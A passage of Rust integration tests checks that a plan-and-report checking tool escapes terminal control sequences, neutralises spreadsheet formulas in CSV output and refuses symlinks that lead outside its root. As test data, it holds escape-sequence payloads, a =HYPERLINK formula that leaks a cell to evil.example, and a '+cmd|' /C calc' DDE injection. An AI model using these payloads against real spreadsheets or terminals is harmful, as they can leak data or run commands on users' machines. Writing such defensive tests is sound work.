    assert!(
        out.stderr.contains(
            "occurrences fall between 2010-01-01 and 2026-12-31, more than the 1000000 a calendar"
        ),
        "{}",
        out.stderr
    );
    // A real window over the same plan works.
    let out = c.run(&[
        "due",
        "--month",
        "1/2026",
        "--today",
        "2026-01-01",
        "--format",
        "csv",
    ]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert_eq!(out.lines().len(), 5001);
}

// ---- W1, W24: output ------------------------------------------------------------------------------

#[test]
fn w01_escape_sequences_are_shown_escaped_for_people() {
    let c = Case::new();
    c.write(
        "reports/a.csv",
        "plan,metric,value,as_of\n\x1b]0;PWNED\x07\x1b[2J\x1b[1;1Hall clean,teachers-using-ai,20%,2026-01-01\n",
    );
    c.write(
        "plans/esc.yaml",
        plan("tinh/esc", Some("\"tinh/nope\\e[8m\""), ""),
    );
    for f in ["short", "human", "table", "markdown", "github"] {
        let out = c.run(&[
            "check",
            "--today",
            "2026-12-01",
            "--format",
            f,
            "--color",
            "never",
        ]);
        assert!(
            !out.stdout.contains('\x1b'),
            "--format {f}: {:?}",
            out.stdout
        );
        assert!(!out.stdout.contains('\x07'), "--format {f}");
        assert!(out.has("\\e]0;PWNED"), "--format {f}: {}", out.stdout);
        assert!(out.has(COMPANION) || f != "short");
    }
    // Machine formats keep the value, escaped by their own rules.
    let out = c.run(&["check", "--today", "2026-12-01", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert!(v["findings"].to_string().contains("\\u001b"));
}

#[test]
fn w24_csv_cells_a_spreadsheet_would_run_are_neutralised() {
    let c = Case::new();
    c.write(
        "plans/f.yaml",
        plan(
            "tinh/f",
            None,
            "units:\n  \"@SUM(1)\": x\ntasks:\n  - id: \"=1+1\"\n    text: \"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1)\"\n    lead: [\"@SUM(1)\"]\n    due: Tháng 1/2026\n  - id: \"2\"\n    text: \"+cmd|' /C calc'!A0\"\n    due: Tháng 1/2026\n",
        ),
    );
    let out = c.run(&[
        "due",
        "--month",
        "1/2026",
        "--today",
        "2026-01-01",
        "--format",
        "csv",
    ]);
    assert_eq!(out.code, Some(0), "{}", out.all());
    let formula = |cell: &str| {
        let number = cell
            .strip_prefix('-')
            .is_some_and(|n| n.starts_with(|c: char| c.is_ascii_digit()));
        cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && !number)
    };
    let mut r = csv::Reader::from_reader(out.stdout.as_bytes());
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            assert!(!formula(cell), "cell {cell:?} would run as a formula");
        }
    }
    assert!(out.has("'=1+1"), "{}", out.stdout);
    assert!(out.has("'=HYPERLINK"), "{}", out.stdout);
}

#[test]
fn w30_plan_dates_out_of_range_are_findings() {
    let c = Case::new();
    c.write(
        "plans/old.yaml",
        plan("tinh/old", None, "").replace("issued: 2026-06", "issued: 0001-01"),
    );
    let out = c.check_everywhere(&[]);
    assert!(
        out.has("plans/old.yaml:6:9: error[schema]: issue date `0001-01` is outside the years 1900 to 2200"),
        "{}",
        out.stdout
    );
}

#[test]
fn w01_escape_sequences_never_reach_stderr_either() {
    let c = Case::new();
    std::fs::write(c.path("kh.yaml"), "strict: \"\\e]0;PWNED\\a\"\n").unwrap();
    let out = c.run(&["check"]);
    assert_eq!(out.code, Some(2), "{}", out.all());
    assert!(!out.stderr.contains('\x1b'), "{:?}", out.stderr);
    std::fs::remove_file(c.path("kh.yaml")).unwrap();
    c.write(
        "reports/a.csv",
        "plan,metric,value,as_of\n\x1b[2Jx,teachers-using-ai,20%,2026-01-01\n",
    );
    let out = c.run(&["status", "--as-of", "2026-06-01"]);
    assert!(out.stderr.contains("\\e[2Jx"), "{:?}", out.stderr);
    assert!(!out.all().contains('\x1b'), "{:?}", out.all());
}

#[test]
fn a_link_on_the_way_to_a_root_is_resolved_too() {
    let c = Case::new();
    std::fs::create_dir_all(c.outside().join("plans")).unwrap();
    std::fs::copy(
        c.outside().join("evil.yaml"),
        c.outside().join("plans/evil.yaml"),
    )
    .unwrap();
    std::fs::create_dir_all(c.outside().join("reports")).unwrap();
    std::fs::write(
        c.outside().join("reports/a.csv"),
        format!("plan,metric,value,as_of\n{SECRET},m,1%,2026-01-01\n"),
    )
    .unwrap();
    c.link(c.outside(), "sub");
    // Named on the command line...
    let out = c.run(&["check", "sub/plans"]);
    c.assert_nothing_from_outside(&out);
    assert!(
        out.has("sub/plans:1:1: error[link-outside]"),
        "{}",
        out.all()
    );
    // ... or in kh.yaml.
    std::fs::write(c.path("kh.yaml"), "reports: sub/reports\n").unwrap();
    let out = c.check_everywhere(&["--today", "2026-12-01"]);
    assert!(
        out.has("sub/reports:1:1: error[link-outside]"),
        "{}",
        out.all()
    );
    std::fs::write(c.path("kh.yaml"), "plans: sub/plans\n").unwrap();
    let out = c.run(&["check"]);
    c.assert_nothing_from_outside(&out);
    assert_eq!(out.code, Some(2), "{}", out.all());
}

#[test]
fn control_characters_in_file_names_are_shown_escaped() {
    let c = Case::new();
    c.write(
        "plans/\x1b[2J\nfake.yaml",
        plan("tinh/x", None, "").replace("kh: 1", "kh: 9"),
    );
    let out = c.check_everywhere(&[]);
    assert!(out.has("plans/\\e[2J\\nfake.yaml:1:"), "{}", out.stdout);
    for f in ["human", "github", "table", "markdown"] {
        let out = c.run(&["check", "--format", f]);
        assert!(!out.stdout.contains('\x1b'), "--format {f}");
    }
}
